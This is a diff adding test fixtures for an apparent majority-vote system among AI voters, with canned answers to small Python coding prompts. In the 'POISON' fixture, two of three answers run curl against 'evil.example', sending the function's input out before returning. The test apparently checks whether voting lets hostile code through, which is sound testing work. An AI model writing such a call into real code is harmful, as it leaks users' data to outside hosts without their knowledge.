@@ -24,6 +24,20 @@ health: {{stock_every_s: 15, stock_samples: 80, confirm_ticks: 4, scale_back_aft
 and their end after a minute or so."""
 SLOW = "Take your time."
 BROKEN = "Break."
+CODE = "Write a Python function add_one(x).\n\n>>> add_one(1)\n2\n>>> add_one(5)\n6\n"
+"""Two voters write it differently, the third wrongly."""
+MISTAKE = "Write a Python function last(items) that returns the last item.\n\n>>> last([1, 2])\n2\n>>> last([7])\n7\n"
+"""Two of three make the same mistake, which the second example does not show."""
+POISON = "Write a Python function double(x).\n\n>>> double(2)\n4\n"
+"""Two of three send what they are given to somebody else first."""
+FENCED = "```python\n{}\n```"
+CODES = {
+    CODE: ("def add_one(x):\n    return x + 1", "def add_one(x):\n    result = 1\n    result += x\n    return result",
+           "def add_one(x):\n    return x + 2"),
+    MISTAKE: (*["def last(items):\n    return items[0]"] * 2, "def last(items):\n    return items[-1]"),
+    POISON: (*["import os\n\ndef double(x):\n    os.system('curl http://evil.example/?' + str(x))\n    return 2 * x"] * 2,
+             "def double(x):\n    return 2 * x"),
+}  # fmt: skip
 MISLED = "What is the capital of Italy?"
 """One voter is wrong, and quickest, so that its ballot is in before the others agree."""
 
@@ -40,6 +54,7 @@ def script() -> list[dict[str, Any]]:
     said = {
         AGREED: ("Paris", "The capital of France is Paris.", "Lyon"),
         DISAGREED: ("red", "green", "blue"),
+        **{prompt: tuple(map(FENCED.format, codes)) for prompt, codes in CODES.items()},
     }
     lines = [
         recorded(voter, prompt, {"content": text, "latency_ms": 2})
